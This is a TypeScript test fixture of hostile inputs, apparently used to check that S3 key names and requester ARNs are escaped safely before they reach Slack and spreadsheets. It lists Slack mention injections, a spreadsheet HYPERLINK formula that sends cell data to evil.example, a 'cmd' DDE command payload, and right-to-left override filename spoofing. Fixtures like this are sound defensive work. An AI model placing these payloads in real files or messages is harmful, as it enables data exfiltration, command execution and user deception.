/** What strangers write into keys, user agents, referrers, and what people type: the worst of it. */

/** Mentions, links and formatting of Slack; formulas of spreadsheets; what turns or hides text. */
export const HOSTILE_KEYS = [
  '<!channel>',
  '<!here> <@U0ADA> <#C0INCIDENTS|x> <!subteam^S0ONCALL>',
  '<https://evil.example|click>',
  '<!date^0^{date}|now>',
  '`rm -rf` *bold* _it_ ~no~ > quoted ```block```',
  '&lt;!here&gt; &amp;lt;',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  'line one\nline two\r\n• a list',
  'photo\u202egnp.exe\u2066\u200f\u200b\u2060\ufeff',
]

/** As much as S3 allows, and more than Slack does: right to left, emoji of several code points, plain. */
export const LONG_KEYS = [
  'k'.repeat(3000),
  '👩‍💻🔥'.repeat(500),
  'تقارير/الربع-الثالث/'.repeat(60),
  '/'.repeat(1024),
  ' '.repeat(1024),
  '',
]

export const HOSTILE = HOSTILE_KEYS.join(' ')
export const HOSTILE_REQUESTER = 'arn:aws:sts::111122223333:assumed-role/<!everyone>\u202e/`x`*y*'
